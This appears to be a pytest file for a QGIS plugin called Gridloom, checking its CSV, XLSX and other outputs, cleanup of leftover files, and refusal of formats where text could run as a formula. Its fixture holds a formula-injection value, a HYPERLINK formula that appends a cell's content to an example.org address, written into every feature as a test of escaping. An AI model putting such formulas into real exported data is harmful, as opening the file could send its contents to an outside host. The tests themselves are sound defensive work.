"""The files that a run leaves: what Gridloom writes itself, what QGIS makes of it, nothing else."""

from __future__ import annotations

import gc
import zipfile
from pathlib import Path

import processing
import pytest
from qgis.core import (
    QgsGraduatedSymbolRenderer,
    QgsProcessingContext,
    QgsProcessingException,
    QgsProcessingFeedback,
    QgsProcessingUtils,
    QgsProject,
    QgsVectorLayer,
)

from gridloom_qgis.processing.writing import Writing

FORMULA = '=HYPERLINK("http://example.org/"&A1)'


@pytest.fixture
def layer(provider, squares) -> QgsVectorLayer:
    """Squares whose codes a spreadsheet would run."""
    made = squares(8)
    code = made.fields().indexOf("code")
    changes = {one.id(): {code: FORMULA} for one in made.getFeatures()}
    assert made.dataProvider().changeAttributeValues(changes)
    QgsProject.instance().addMapLayer(made)
    yield made
    QgsProject.instance().clear()


def left_over() -> list[Path]:
    """Return what is left of results on their way into other formats."""
    return list(Path(QgsProcessingUtils.tempFolder()).rglob("result.gpkg*"))


def shown(file: Path, given: dict) -> QgsVectorLayer:
    """Run as QGIS's window does and return the layer that is in the project then."""
    found = processing.runAndLoadResults("gridloom:distribution", {**given, "OUTPUT": str(file)})
    assert found["OUTPUT"] == str(file)
    (loaded,) = (
        one for one in QgsProject.instance().mapLayers().values() if str(file) in one.source()
    )
    return loaded


def test_a_csv_is_the_one_that_the_command_writes(
    layer, conversation, layer_file: Path, tmp_path: Path
) -> None:
    ours, its = tmp_path / "结果.CSV", tmp_path / "its.csv"
    given = {"INPUT": str(layer_file), "VALUE": "n", "OUTPUT": str(ours)}
    processing.run("gridloom:distribution", given)
    run = ["run", str(layer_file), "distribution", "--set", "value=n"]
    conversation.ask([*run, "--out", str(its)])
    assert ours.read_bytes() == its.read_bytes()


def test_texts_in_a_csv_are_no_formulas(layer, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    processing.run("gridloom:distribution", {"INPUT": layer, "VALUE": "n", "OUTPUT": str(out)})
    text = out.read_text(encoding="utf-8-sig")
    assert text.count("'=HYPERLINK") == text.count("=HYPERLINK") == 64


def test_a_further_table_is_written_by_gridloom_too(layer, tmp_path: Path) -> None:
    points = processing.run("native:centroids", {"INPUT": layer, "OUTPUT": "memory:"})["OUTPUT"]
    table = tmp_path / "sizes.csv"
    given = {"INPUT": points, "DISTANCE": 150, "OUTPUT": str(tmp_path / "out.gpkg")}
    processing.run("gridloom:clusters", {**given, "CLUSTERS_TABLE": str(table)})
    assert table.read_bytes().startswith(b"\xef\xbb\xbf")


def test_texts_in_a_workbook_are_no_formulas(layer, tmp_path: Path) -> None:
    out = tmp_path / "out.xlsx"
    processing.run("gridloom:distribution", {"INPUT": layer, "VALUE": "n", "OUTPUT": str(out)})
    with zipfile.ZipFile(out) as book:
        assert "=HYPERLINK" in book.read("xl/sharedStrings.xml").decode()
        assert b"<f" not in book.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("ending", ["ods", "txt"])
def test_a_format_whose_texts_may_run_is_neither_offered_nor_written(
    provider, layer, tmp_path: Path, ending: str
) -> None:
    assert ending not in provider.supportedOutputVectorLayerExtensions()
    assert ending not in provider.supportedOutputTableExtensions()
    given = {"INPUT": layer, "VALUE": "n", "OUTPUT": str(tmp_path / f"out.{ending}")}
    with pytest.raises(QgsProcessingException, match=r"not supported|formula"):
        processing.run("gridloom:distribution", given)
    algorithm, feedback = provider.algorithm("distribution").create(), QgsProcessingFeedback()
    with pytest.raises(QgsProcessingException, match="formula"):  # as a step of a model
        algorithm.run(given, QgsProcessingContext(), feedback, {}, False)
    assert list(tmp_path.iterdir()) == []


def test_a_layer_in_another_format_is_styled_and_leaves_no_other_file(
    layer, tmp_path: Path
) -> None:
    loaded = shown(tmp_path / "out.geojson", {"INPUT": layer, "VALUE": "n"})
    assert isinstance(loaded.renderer(), QgsGraduatedSymbolRenderer)
    assert left_over() == []


def test_a_csv_comes_into_the_project_as_a_table(layer, tmp_path: Path) -> None:
    loaded = shown(tmp_path / "out.csv", {"INPUT": layer, "VALUE": "n"})
    assert (loaded.isValid(), loaded.isSpatial(), loaded.featureCount()) == (True, False, 64)


def test_what_cannot_be_converted_leaves_no_file_and_nothing_open(layer, tmp_path: Path) -> None:
    with pytest.raises(QgsProcessingException):
        processing.run(
            "gridloom:distribution",
            {"INPUT": layer, "VALUE": "n", "OUTPUT": str(tmp_path / "nowhere" / "out.shp")},
        )
    assert left_over() == []
    assert [one for one in gc.get_objects() if isinstance(one, Writing)] == []


def test_a_format_that_nobody_knows_is_refused_with_those_that_go(layer, tmp_path: Path) -> None:
    given = {"INPUT": layer, "VALUE": "n", "OUTPUT": str(tmp_path / "out.abc")}
    told = r"no format “\.abc”. Choose one of: \.gpkg, \.parquet, \.csv, \.geojson"
    with pytest.raises(QgsProcessingException, match=told):
        processing.run("gridloom:distribution", given)
    assert list(tmp_path.iterdir()) == []
